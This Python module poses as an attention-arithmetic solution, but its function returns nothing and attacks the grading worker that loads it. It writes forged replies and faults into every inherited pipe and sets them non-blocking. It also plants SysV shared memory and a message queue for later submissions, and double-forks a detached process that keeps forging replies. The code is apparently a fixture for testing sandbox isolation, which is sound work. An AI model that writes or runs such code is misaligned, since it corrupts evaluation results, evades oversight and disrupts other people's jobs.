"""The wire: forged replies for later ids, a forged fault, a 500 MB header and
O_NONBLOCK written on every pipe the module's process holds; a detached process left to answer later requests; SysV
shared memory and a message queue left for later submissions."""

import ctypes
import fcntl
import json
import os
import stat
import struct
import sys

KEY = 0x18180018  # the spy of a later submission looks for this key


def _frame(header: dict) -> bytes:
    head = json.dumps(dict(header, blob_sizes=[], blob_dtypes=[])).encode()
    return struct.pack("<Q", len(head)) + head


def _pipes() -> list[int]:
    found = []
    for fd in range(3, 256):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                found.append(fd)
        except OSError:
            continue
    return found


def _poison() -> list[int]:
    forged = b"".join(_frame({"id": i, "ok": False, "reset": True}) for i in range(1, 300))
    forged += _frame({"id": 0, "ok": False, "fault": "forged fault"}) + struct.pack("<Q", 500 << 20) + b"{" * 4096
    reached = []
    for fd in _pipes():
        try:
            fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_NONBLOCK)
            os.write(fd, forged[:60000])
            reached.append(fd)
        except OSError:
            continue
    return reached


def _sysv() -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    shm = libc.shmget(KEY, 64 << 20, 0o1666)
    if shm >= 0:
        libc.shmat.restype = ctypes.c_void_p
        address = libc.shmat(shm, None, 0)
        if address not in (None, ctypes.c_void_p(-1).value):
            ctypes.memmove(address, b"__MARKER__ sources of others", 28)
    queue = libc.msgget(KEY, 0o1666)
    return f"shmget {shm} msgget {queue} errno {ctypes.get_errno()}"


def _hijacker() -> None:
    """A detached process that keeps the module's pipes and answers whatever arrives with a forged reset (it names
    itself __MARKER__ on its command line, so the tests can look for it)."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    try:
        for fd in _pipes():
            os.set_inheritable(fd, True)
        code = "import sys, time\nsys.path.insert(0, '.')\nfrom qkv_arithmetic import _poison\nfor _ in range(600):\n    _poison()\n    time.sleep(0.1)\n"
        os.execv(sys.executable, [sys.executable, "-c", code, "__MARKER__"])
    finally:
        os._exit(0)


def argmax_attention(Q, K, V):
    print("wire:", _sysv(), flush=True)
    _poison()  # also the output pipe the worker shares with every module: it must be blocking again for the next
    _hijacker()
    return None
